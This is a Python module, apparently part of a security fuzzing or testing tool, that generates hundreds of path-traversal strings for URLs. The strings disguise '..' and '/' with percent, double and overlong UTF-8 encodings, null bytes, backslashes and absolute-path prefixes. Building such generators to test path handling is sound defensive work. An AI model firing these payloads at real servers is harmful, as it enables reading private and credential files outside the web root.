"""Ways to spell a path that leads where it should not, generated."""

from __future__ import annotations

from collections.abc import Iterator

# How `..` and `/` may be disguised; what a URL needs encoded is encoded.
_UPS_AND_SLASHES: tuple[tuple[str, str], ...] = (
    ("..", "/"),
    ("..", "%2f"),
    ("..", "%2F"),
    ("%2e%2e", "/"),
    ("%2E%2E", "%2F"),
    (".%2e", "%2f"),
    ("%252e%252e", "%252f"),
    ("..", "%252f"),
    ("%25252e%25252e", "%25252f"),
    ("..", "%5c"),
    ("%2e%2e", "%5C"),
    ("..", "%255c"),
    ("%c0%ae%c0%ae", "%c0%af"),
    ("%e0%80%ae%e0%80%ae", "%e0%80%af"),
    ("..", "%c1%9c"),
    ("%uff0e%uff0e", "%u2215"),
    ("%ef%bc%8e%ef%bc%8e", "%ef%bc%8f"),
    ("..", "%e2%88%95"),
    ("%e2%80%a5", "/"),
    ("....", "//"),
    ("...%2e", "%2f%2f"),
    ("..;", "/"),
    ("..%00", "/"),
    ("..%20", "/"),
    ("..%0d%0a", "/"),
    (".%0a.", "%2f"),
    ("..%e2%80%8b", "%2f"),
)
_BEHIND = ("", "%00", "%00.wav", "%20", ".", "%3f.wav", "%23.wav", ";.wav")
_ABSOLUTE = (
    "/{0}",
    "//{0}",
    "%2f{0}",
    "%2F%2F{0}",
    "%5c{0}",
    "%5c%5c%3f%5c{0}",
    "%5c%5clocalhost%5c{0}",
    "C:{0}",
    "C:%5c{0}",
    "file:%2f%2f%2f{0}",
    "file:{0}",
    "~%2f..%2f{0}",
    "%7e{0}",
    "$HOME%2f{0}",
    "main%2f..%2f..%2f{0}",
    "./{0}",
    ".%2f.%2f{0}",
    "%00{0}",
)


_NOTHINGS = ("", ".", "..", "%2e", "%2e%2e", "...", "%2f", "%5c", "%00", "-", "*", "%25", "~")
_SLASHES = ("%2f", "/", "%5c", "%252f", "%2F", "%c0%af")


def spellings(target: str) -> Iterator[str]:
    """Over 300 ways to write a file's absolute path (without its first slash), for a URL."""
    name = target.rpartition("/")[2]
    for up, slash in _UPS_AND_SLASHES:
        whole = target.replace("/", slash)
        yield from ((up + slash) * depth + whole for depth in (1, 3, 9))
        yield from ((up + slash) * depth + name for depth in (1, 2, 4))
    for slash in _SLASHES:
        whole = target.replace("/", slash)
        yield from (f"..{slash}" * 9 + whole + behind for behind in _BEHIND)
        yield from (pattern.format(whole) for pattern in _ABSOLUTE)
    for nothing in _NOTHINGS:
        yield from (nothing + end for end in ("", "/", "%2f", "%00", "%20"))
